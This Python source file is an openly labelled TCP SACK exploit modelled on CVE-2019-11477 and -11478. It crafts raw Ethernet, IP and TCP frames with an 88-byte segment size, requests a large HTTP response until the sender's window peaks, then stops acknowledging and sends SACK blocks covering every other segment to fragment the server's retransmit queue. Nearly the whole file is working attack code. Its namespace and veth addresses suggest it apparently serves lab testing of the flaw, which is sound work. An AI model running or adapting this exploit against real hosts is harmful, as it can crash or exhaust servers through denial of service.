# SPDX-License-Identifier: MIT
"""A peer with a segment size of 88 that has our retransmit queue cut to pieces by SACK blocks, and
then goes on with a few ACKs a second (CVE-2019-11477, -11478 and what is like them).

    python sack_attack.py --dev veth0 --host 10.77.0.2 --port 80 --own 10.77.0.200 [--seconds 10]

Runs in the peer's namespace, with a packet socket and an address of its own, for which it answers
ARP. It asks an HTTP server for /bytes/N and takes what comes until the sender's window is as large
as it will be; then it acknowledges no more, and SACKs every other segment. Prints a line of JSON
when it begins to cut, one when it is done with that, and one at the end.
"""

import argparse
import json
import socket
import struct
import sys
import time
from collections.abc import Iterator
from typing import Final

ETH_P_ALL: Final = 3
SO_RCVBUFFORCE: Final = 33
MSS: Final = 88
SYN, PSH, ACK = 2, 8, 16
QUIET: Final = 0.02
HOLD: Final = 0.15
"""s without a segment, after which the sender has probably sent all that it may; before its timer
finds out that nothing is acknowledged."""


def checksum(data: bytes) -> int:
    """RFC 1071."""
    if len(data) & 1:
        data += b"\0"
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Attacker:
    """One connection, made by hand."""

    def __init__(self, dev: str, own: str, host: str, port: int) -> None:
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        self.sock.setsockopt(socket.SOL_SOCKET, SO_RCVBUFFORCE, 256 << 20)
        self.sock.bind((dev, ETH_P_ALL))
        self.mac: bytes = self.sock.getsockname()[4]
        self.own, self.host = socket.inet_aton(own), socket.inet_aton(host)
        self.port = port
        self.sport = 20000 + time.monotonic_ns() // 1000 % 40000
        self.host_mac = b"\xff" * 6
        self.snd_nxt = 0x10000000
        self.una = 0
        self.last = 0
        """Behind the last byte that came."""

    # ---- frames

    def arp(self, operation: int, to: bytes) -> None:
        """A request or a reply of ours."""
        body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + self.mac + self.own
        target = bytes(6) if operation == 1 else to
        self.sock.send(to + self.mac + b"\x08\x06" + body + target + self.host)

    def segment(self, flags: int, options: bytes = b"", data: bytes = b"") -> None:
        """A segment of ours; it acknowledges `una`."""
        size = 20 + len(options)
        tcp = struct.pack(
            "!HHIIBBHHH", self.sport, self.port, self.snd_nxt, self.una if flags & ACK else 0,
            size << 2, flags, 0xFFFF, 0, 0,
        ) + options + data  # fmt: skip
        pseudo = self.own + self.host + struct.pack("!HH", 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack(
            "!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, self.own, self.host
        )
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        self.sock.send(self.host_mac + self.mac + b"\x08\x00" + ip + tcp)
        self.snd_nxt += len(data) + (flags & SYN) // SYN

    def frames(self, quiet: float) -> Iterator[tuple[int, int, int]]:
        """(flags, seq, bytes) of what comes on the connection, until nothing does for a while."""
        self.sock.settimeout(quiet)
        while True:
            try:
                frame = self.sock.recv(1 << 17)
            except TimeoutError:
                return
            if frame[12:14] == b"\x08\x06":
                if frame[20:22] == b"\0\1" and frame[38:42] == self.own:
                    self.arp(2, frame[6:12])
                elif frame[20:22] == b"\0\2" and frame[28:32] == self.host:
                    self.host_mac = frame[22:28]
                    return
            elif frame[12:14] == b"\x08\0" and frame[26:34] == self.host + self.own:
                at = 14 + (frame[14] & 15) * 4
                sport, dport, seq, _, doff, flags = struct.unpack_from("!HHIIBB", frame, at)
                if (sport, dport) == (self.port, self.sport):
                    total = int.from_bytes(frame[16:18], "big") or len(frame) - 14
                    yield flags, seq, total - (at - 14) - (doff >> 4) * 4

    # ---- the connection

    def connect(self, request: bytes) -> None:
        """Open it and ask."""
        self.arp(1, b"\xff" * 6)
        for _ in self.frames(2):
            pass
        self.segment(
            SYN, b"\x02\x04" + struct.pack("!H", MSS) + b"\x01\x03\x03\x0e\x01\x01\x04\x02"
        )
        for flags, seq, _ in self.frames(2):
            if flags & SYN:
                self.una = self.last = seq + 1 & 0xFFFFFFFF
                self.segment(ACK)
                self.segment(ACK | PSH, data=request)
                return
        raise SystemExit("no SYN-ACK came")

    def grow(self, enough: int, seconds: float) -> int:
        """Acknowledge what comes, so that cwnd grows; then stop. Segments that are out."""
        end = time.monotonic() + seconds
        acked = 0
        while True:
            hold = acked >= enough or time.monotonic() > end
            for _, seq, size in self.frames(HOLD if hold else QUIET):
                if size and seq == self.last:
                    self.last = seq + size & 0xFFFFFFFF
                if not hold and self.last - self.una & 0xFFFFFFFF > 256 * MSS:
                    break  # the sender's clock must not stand still
            out = (self.last - self.una & 0xFFFFFFFF) // MSS
            if hold and (out >= enough // 4 or time.monotonic() > end):
                return out
            if hold:
                acked = 0
            acked += out
            while self.una != self.last:
                step = min(self.last - self.una & 0xFFFFFFFF, 64 * MSS)
                self.una = self.una + step & 0xFFFFFFFF
                self.segment(ACK)

    def sack(self, *blocks: tuple[int, int]) -> None:
        """A duplicate ACK with blocks of whole segments, counted from una."""
        option = bytes((1, 1, 5, 2 + 8 * len(blocks)))
        for a, b in blocks:
            option += struct.pack(
                "!II", self.una + a * MSS & 0xFFFFFFFF, self.una + b * MSS & 0xFFFFFFFF
            )
        self.segment(ACK, option)

    def cut(self, out: int) -> int:
        """SACK every other segment, four with an ACK."""
        acks = 0
        for i in range(1, out - 8, 8):
            self.sack(*((i + j, i + j + 1) for j in (6, 4, 2, 0)))
            acks += 1
            if not acks % 50:
                time.sleep(0.005)
        return acks

    def go_on(self, out: int, rate: float, seconds: float) -> int:
        """A few ACKs a second, with blocks that the last one did not have."""
        start = time.monotonic()
        acks = 0
        while (now := time.monotonic()) < start + seconds:
            starts = (1 + acks % 4 * (out // 4) | 1, out // 2 | 1, out - 3 - acks % 50)
            self.sack(*((at, at + 1) for at in starts))
            acks += 1
            time.sleep(max(0.0, start + acks / rate - now))
        return acks


def tell(what: dict[str, int]) -> None:
    """A line of what has happened."""
    sys.stdout.write(json.dumps(what) + "\n")
    sys.stdout.flush()


def main() -> None:
    """The command line."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--dev", required=True)
    parser.add_argument("--host", required=True)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--own", required=True, help="an address of the segment that nobody has")
    parser.add_argument("--pieces", type=int, default=90_000, help="segments to be out (90000)")
    parser.add_argument("--grow", type=float, default=20, help="s for that (20)")
    parser.add_argument("--rate", type=float, default=88, help="ACKs a second afterwards (88)")
    parser.add_argument("--seconds", type=float, default=10, help="for so long (10)")
    args = parser.parse_args()
    attacker = Attacker(args.dev, args.own, args.host, args.port)
    attacker.connect(b"GET /bytes/400000000 HTTP/1.1\r\nHost: x\r\n\r\n")
    out = attacker.grow(args.pieces, args.grow)
    tell({"out": out})
    acks = attacker.cut(out)
    tell({"cut": acks})
    tell({"acks": attacker.go_on(out, args.rate, args.seconds)})


if __name__ == "__main__":
    main()
